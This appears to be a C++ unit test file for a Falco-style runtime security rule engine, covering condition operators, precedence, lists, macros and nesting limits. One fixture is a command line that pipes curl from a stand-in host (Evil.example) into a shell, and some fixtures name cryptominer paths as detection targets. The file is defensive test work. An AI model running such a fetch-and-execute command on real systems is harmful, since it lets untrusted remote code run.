// SPDX-License-Identifier: Apache-2.0
// The condition language: every operator, precedence, lists, macros, absent
// fields, evt.type indexing.
#include <gtest/gtest.h>

#include "rules_test_util.h"

namespace invar::rules::testing {
namespace {

TEST(Condition, EqualityAndInequalityOnStrings) {
  Event e = ExecEvent("bash");
  EXPECT_TRUE(Holds("proc.name = bash", e));
  EXPECT_TRUE(Holds("proc.name == bash", e));
  EXPECT_TRUE(Holds("proc.name=bash", e));
  EXPECT_FALSE(Holds("proc.name = sh", e));
  EXPECT_TRUE(Holds("proc.name != sh", e));
  EXPECT_FALSE(Holds("proc.name != bash", e));
  EXPECT_TRUE(Holds("proc.name = \"bash\"", e));
}

TEST(Condition, NumericComparisons) {
  Event e = ExecEvent();
  e.proc_pid = 100;
  EXPECT_TRUE(Holds("proc.pid = 100", e));
  EXPECT_TRUE(Holds("proc.pid != 101", e));
  EXPECT_TRUE(Holds("proc.pid < 101", e));
  EXPECT_FALSE(Holds("proc.pid < 100", e));
  EXPECT_TRUE(Holds("proc.pid <= 100", e));
  EXPECT_TRUE(Holds("proc.pid > 99", e));
  EXPECT_FALSE(Holds("proc.pid > 100", e));
  EXPECT_TRUE(Holds("proc.pid >= 100", e));
  EXPECT_TRUE(Holds("proc.pid in (1, 100, 7)", e));
  EXPECT_FALSE(Holds("proc.pid in (1, 7)", e));
  EXPECT_TRUE(Holds("user.uid = 0", e));
  EXPECT_TRUE(Holds("evt.time > 1000", e));
}

TEST(Condition, SubstringOperators) {
  Event e = ExecEvent();
  e.proc_cmdline = "bash -c \"curl http://Evil.example | sh\"";
  EXPECT_TRUE(Holds("proc.cmdline contains curl", e));
  EXPECT_FALSE(Holds("proc.cmdline contains wget", e));
  EXPECT_FALSE(Holds("proc.cmdline contains evil", e));
  EXPECT_TRUE(Holds("proc.cmdline icontains EVIL", e));
  EXPECT_TRUE(Holds("proc.cmdline icontains evil.EXAMPLE", e));
  EXPECT_TRUE(Holds("proc.cmdline startswith \"bash -c\"", e));
  EXPECT_FALSE(Holds("proc.cmdline startswith sh", e));
  EXPECT_TRUE(Holds("proc.cmdline endswith \"sh\\\"\"", e));
  EXPECT_TRUE(Holds("proc.exe endswith /bash", e));
}

TEST(Condition, GlobMatchesWholeValue) {
  Event e = WriteEvent("/etc/nginx/conf.d/default.conf");
  EXPECT_TRUE(Holds("fd.name glob /etc/*", e));
  EXPECT_TRUE(Holds("fd.name glob /etc/nginx/*.conf", e));
  EXPECT_TRUE(Holds("fd.name glob \"/etc/nginx/conf.d/default.con?\"", e));
  EXPECT_TRUE(Holds("fd.name glob \"/etc/nginx/conf.d/[a-e]efault.conf\"", e));
  EXPECT_FALSE(Holds("fd.name glob \"/etc/nginx/conf.d/[!d]efault.conf\"", e));
  EXPECT_FALSE(Holds("fd.name glob /etc", e));
  EXPECT_FALSE(Holds("fd.name glob /usr/*", e));
}

TEST(Condition, InUsesTheWholeValue) {
  Event e = ExecEvent("bash");
  EXPECT_TRUE(Holds("proc.name in (sh, bash, \"z s h\")", e));
  EXPECT_FALSE(Holds("proc.name in (sh, bas, bashh)", e));
  EXPECT_FALSE(Holds("proc.name in ()", e));
  EXPECT_TRUE(Holds("not proc.name in ()", e));
  EXPECT_TRUE(Holds("proc.name intersects (bash)", e));
}

TEST(Condition, PmatchMatchesPathPrefixesByComponent) {
  EXPECT_TRUE(Holds("fd.name pmatch (/etc, /usr/bin)", WriteEvent("/etc/passwd")));
  EXPECT_TRUE(Holds("fd.name pmatch (/etc, /usr/bin)", WriteEvent("/etc")));
  EXPECT_TRUE(Holds("fd.name pmatch (/etc/, /usr/bin)", WriteEvent("/etc/ssl/certs/a.pem")));
  EXPECT_FALSE(Holds("fd.name pmatch (/etc, /usr/bin)", WriteEvent("/etcx/passwd")));
  EXPECT_FALSE(Holds("fd.name pmatch (/etc, /usr/bin)", WriteEvent("/usr/lib/x")));
  EXPECT_TRUE(Holds("fd.name pmatch (/)", WriteEvent("/anything")));
}

TEST(Condition, ExistsAndAbsentFields) {
  Event e = ExecEvent();
  e.container_name.reset();
  EXPECT_TRUE(Holds("proc.name exists", e));
  EXPECT_FALSE(Holds("container.name exists", e));
  EXPECT_TRUE(Holds("not container.name exists", e));
  // As in Falco, a missing value satisfies no comparison, not even !=.
  EXPECT_FALSE(Holds("container.name = web", e));
  EXPECT_FALSE(Holds("container.name != web", e));
  EXPECT_TRUE(Holds("not container.name = web", e));
  EXPECT_FALSE(Holds("fd.name exists", e));
  EXPECT_FALSE(Holds("fd.directory exists", e));
}

TEST(Condition, RegexIsAnchoredRe2) {
  Event e = ExecEvent("bash");
  e.proc_exe = "/tmp/.x/miner-7";
  EXPECT_TRUE(Holds("proc.exe regex \"/tmp/.*miner-[0-9]+\"", e));
  EXPECT_FALSE(Holds("proc.exe regex \"miner-[0-9]+\"", e));  // anchored at both ends, as libsinsp
  EXPECT_TRUE(Holds("proc.exe regex \".*miner-[0-9]+\"", e));
}

TEST(Condition, BooleanFields) {
  Event e = ExecEvent();
  e.proc_is_exe_upper_layer = true;
  EXPECT_TRUE(Holds("proc.is_exe_upper_layer = true", e));
  EXPECT_TRUE(Holds("proc.is_exe_upper_layer = TRUE", e));
  EXPECT_FALSE(Holds("proc.is_exe_upper_layer = false", e));
  EXPECT_TRUE(Holds("proc.is_exe_upper_layer != false", e));
  e.proc_is_exe_upper_layer.reset();
  EXPECT_FALSE(Holds("proc.is_exe_upper_layer = true", e));
  EXPECT_FALSE(Holds("proc.is_exe_upper_layer = false", e));
}

TEST(Condition, DerivedFdFields) {
  Event e = WriteEvent("/usr/local/bin/xmrig");
  EXPECT_TRUE(Holds("fd.directory = /usr/local/bin", e));
  EXPECT_TRUE(Holds("fd.filename = xmrig", e));
  EXPECT_TRUE(Holds("fd.directory = /", WriteEvent("/evil")));
}

TEST(Condition, PodLabels) {
  Event e = ExecEvent();
  e.k8s_pod_labels = std::map<std::string, std::string>{{"app", "web"}, {"tier", "front"}};
  EXPECT_TRUE(Holds("k8s.pod.label[app] = web", e));
  EXPECT_FALSE(Holds("k8s.pod.label[app] = db", e));
  EXPECT_FALSE(Holds("k8s.pod.label[missing] exists", e));
  EXPECT_TRUE(Holds("k8s.pod.labels intersects (app:web, x:y)", e));
  EXPECT_FALSE(Holds("k8s.pod.labels in (app:web, x:y)", e));
  EXPECT_TRUE(Holds("k8s.pod.labels in (app:web, tier:front, x:y)", e));
  EXPECT_TRUE(Holds("k8s.pod.labels exists", e));
  e.k8s_pod_labels.reset();
  EXPECT_FALSE(Holds("k8s.pod.labels exists", e));
}

TEST(Condition, TransformersInConditions) {
  Event e = ExecEvent("bash");
  EXPECT_TRUE(Holds("toupper(proc.name) = BASH", e));
  EXPECT_TRUE(Holds("tolower(container.image.repository) = docker.io/library/busybox", e));
  EXPECT_TRUE(Holds("basename(proc.exe) = bash", e));
}

TEST(Condition, PrecedenceIsNotThenAndThenOr) {
  // not a and b or c == ((not a) and b) or c
  Event e = ExecEvent("bash");  // a: proc.name=bash true
  EXPECT_FALSE(Holds("not proc.name = bash and proc.pid = 4242 or user.uid = 1", e));
  EXPECT_TRUE(Holds("not proc.name = bash and proc.pid = 4242 or user.uid = 0", e));
  EXPECT_TRUE(Holds("not proc.name = sh and proc.pid = 4242 or user.uid = 1", e));
  EXPECT_FALSE(Holds("not (proc.name = bash and proc.pid = 4242 or user.uid = 1)", e));
  EXPECT_TRUE(Holds("proc.name = sh or proc.name = bash and user.uid = 0", e));
  EXPECT_FALSE(Holds("(proc.name = sh or proc.name = bash) and user.uid = 1", e));
  EXPECT_TRUE(Holds("not not proc.name = bash", e));
  EXPECT_TRUE(Holds("((proc.name = bash))", e));
}

TEST(Condition, NamedListsExpandInsideValueLists) {
  std::string yaml = R"(
- list: shells
  items: [sh, bash]
- list: more_shells
  items: [shells, zsh]
- rule: r
  desc: d
  condition: evt.type = execve and proc.name in (more_shells, fish)
  output: o
  priority: INFO
)";
  Loaded l = LoadYaml(yaml);
  ASSERT_TRUE(l.result.ok()) << l.result.ToText();
  EXPECT_EQ(MatchNames(*l.engine, ExecEvent("bash")).size(), 1u);
  EXPECT_EQ(MatchNames(*l.engine, ExecEvent("zsh")).size(), 1u);
  EXPECT_EQ(MatchNames(*l.engine, ExecEvent("fish")).size(), 1u);
  EXPECT_EQ(MatchNames(*l.engine, ExecEvent("ksh")).size(), 0u);
  // "shells" inside a value list is never the literal word when a list has that name.
  EXPECT_EQ(MatchNames(*l.engine, ExecEvent("shells")).size(), 0u);
}

TEST(Condition, ListSeesOnlyEarlierLists) {
  std::string yaml = R"(
- list: a
  items: [b, x]
- list: b
  items: [y]
- rule: r
  desc: d
  condition: evt.type = execve and proc.name in (a)
  output: o
  priority: INFO
)";
  Loaded l = LoadYaml(yaml);
  ASSERT_TRUE(l.result.ok()) << l.result.ToText();
  // "b" was defined after "a", so it stays the literal "b".
  EXPECT_EQ(MatchNames(*l.engine, ExecEvent("b")).size(), 1u);
  EXPECT_EQ(MatchNames(*l.engine, ExecEvent("y")).size(), 0u);
}

TEST(Condition, QuotedListItemsKeepSpaces) {
  std::string yaml = R"(
- list: names
  items: ['"my proc"', plain]
- rule: r
  desc: d
  condition: evt.type = execve and proc.name in (names)
  output: o
  priority: INFO
)";
  Loaded l = LoadYaml(yaml);
  ASSERT_TRUE(l.result.ok()) << l.result.ToText();
  EXPECT_EQ(MatchNames(*l.engine, ExecEvent("my proc")).size(), 1u);
}

TEST(Condition, MacrosExpandAndSeeOnlyEarlierMacros) {
  std::string yaml = R"(
- macro: is_bash
  condition: proc.name = bash
- macro: bash_exec
  condition: evt.type = execve and is_bash
- rule: r
  desc: d
  condition: bash_exec and later
  output: o
  priority: INFO
- macro: later
  condition: user.uid = 0
)";
  Loaded l = LoadYaml(yaml);
  ASSERT_TRUE(l.result.ok()) << l.result.ToText();  // a rule sees every macro, even later ones
  EXPECT_EQ(MatchNames(*l.engine, ExecEvent("bash")).size(), 1u);
  Event e = ExecEvent("bash");
  e.user_uid = 1000;
  EXPECT_TRUE(MatchNames(*l.engine, e).empty());
}

TEST(Condition, EvtTypeIndexSkipsRulesForOtherTypes) {
  std::string yaml = R"(
- rule: exec
  desc: d
  condition: evt.type = execve and proc.name = bash
  output: o
  priority: INFO
- rule: open
  desc: d
  condition: evt.type in (open, openat) and proc.name = bash
  output: o
  priority: INFO
- rule: any
  desc: d
  condition: proc.name = bash
  output: o
  priority: INFO
  warn_evttypes: false
- rule: notexec
  desc: d
  condition: not evt.type = execve and proc.name = bash
  output: o
  priority: INFO
  warn_evttypes: false
)";
  Loaded l = LoadYaml(yaml);
  ASSERT_TRUE(l.result.ok()) << l.result.ToText();
  Event e = ExecEvent("bash");
  EXPECT_EQ(MatchNames(*l.engine, e), (std::vector<std::string>{"exec", "any"}));
  e.type = "openat";
  EXPECT_EQ(MatchNames(*l.engine, e), (std::vector<std::string>{"open", "any", "notexec"}));
  e.type = "unlink";  // named by no rule
  EXPECT_EQ(MatchNames(*l.engine, e), (std::vector<std::string>{"any", "notexec"}));
}

TEST(Condition, FirstMatchModeReportsOneRule) {
  std::string yaml = RuleWith("proc.name = bash") + R"(
- rule: second
  desc: d
  condition: proc.name = bash
  output: o
  priority: INFO
  warn_evttypes: false
)";
  LoadResult result;
  auto engine = Engine::Load({{"t.yaml", yaml}}, &result);  // default: Matching::kFirst
  ASSERT_TRUE(engine) << result.ToText();
  EXPECT_EQ(MatchNames(*engine, ExecEvent("bash")), (std::vector<std::string>{"r"}));
}

TEST(Condition, ConstantFoldingOfEmptyLists) {
  // "x in ()" is false: the and-node folds to false, the rule never matches any type.
  std::string yaml = RuleWith("proc.name in () and proc.name = bash");
  Loaded l = LoadYaml(yaml);
  ASSERT_TRUE(l.result.ok()) << l.result.ToText();
  EXPECT_TRUE(MatchNames(*l.engine, ExecEvent("bash")).empty());
  EXPECT_TRUE(Holds("proc.name in () or proc.name = bash", ExecEvent("bash")));
}

TEST(Condition, DeepNestingIsRejectedNotCrashed) {
  std::string cond(5000, '(');
  cond += "proc.name = bash";
  cond += std::string(5000, ')');
  std::string err = FirstError(RuleWith(cond));
  EXPECT_EQ(err, "exceeded the maximum nesting depth of 1000");
  std::string nots;
  for (int i = 0; i < 3000; ++i) nots += "not ";
  EXPECT_EQ(FirstError(RuleWith(nots + "proc.name = bash")), "exceeded the maximum nesting depth of 1000");
}

TEST(Condition, LongMacroChainsAreRejectedNotCrashed) {
  std::string yaml = "- macro: m0\n  condition: proc.name = a\n";
  for (int i = 1; i < 20000; ++i) {
    yaml += "- macro: m" + std::to_string(i) + "\n  condition: m" + std::to_string(i - 1) + " and proc.pid = " +
            std::to_string(i) + "\n";
  }
  yaml += "- rule: r\n  desc: d\n  condition: evt.type = execve and m19999\n  output: o\n  priority: INFO\n";
  EXPECT_EQ(FirstError(yaml), "condition nesting exceeds 1000 levels after macro expansion");
}

TEST(Condition, ExponentialMacroExpansionIsRejected) {
  std::string yaml = "- macro: m0\n  condition: proc.name = a\n";
  for (int i = 1; i < 40; ++i) {
    yaml += "- macro: m" + std::to_string(i) + "\n  condition: m" + std::to_string(i - 1) + " and m" +
            std::to_string(i - 1) + "\n";
  }
  yaml += "- rule: r\n  desc: d\n  condition: evt.type = execve and m39\n  output: o\n  priority: INFO\n";
  EXPECT_EQ(FirstError(yaml), "condition has more than 1048576 checks after macro expansion");
  // A moderate chain still works, and evaluates correctly.
  std::string ok = "- macro: m0\n  condition: proc.name = bash\n";
  for (int i = 1; i < 200; ++i) {
    ok += "- macro: m" + std::to_string(i) + "\n  condition: m" + std::to_string(i - 1) + " and user.uid = 0\n";
  }
  ok += "- rule: r\n  desc: d\n  condition: evt.type = execve and m199\n  output: o\n  priority: INFO\n";
  Loaded l = LoadYaml(ok);
  ASSERT_TRUE(l.result.ok()) << l.result.ToText();
  EXPECT_EQ(l.result.warnings().size(), 0u) << l.result.ToText();
  EXPECT_EQ(MatchNames(*l.engine, ExecEvent("bash")).size(), 1u);
  EXPECT_TRUE(MatchNames(*l.engine, ExecEvent("sh")).empty());
}

}  // namespace
}  // namespace invar::rules::testing
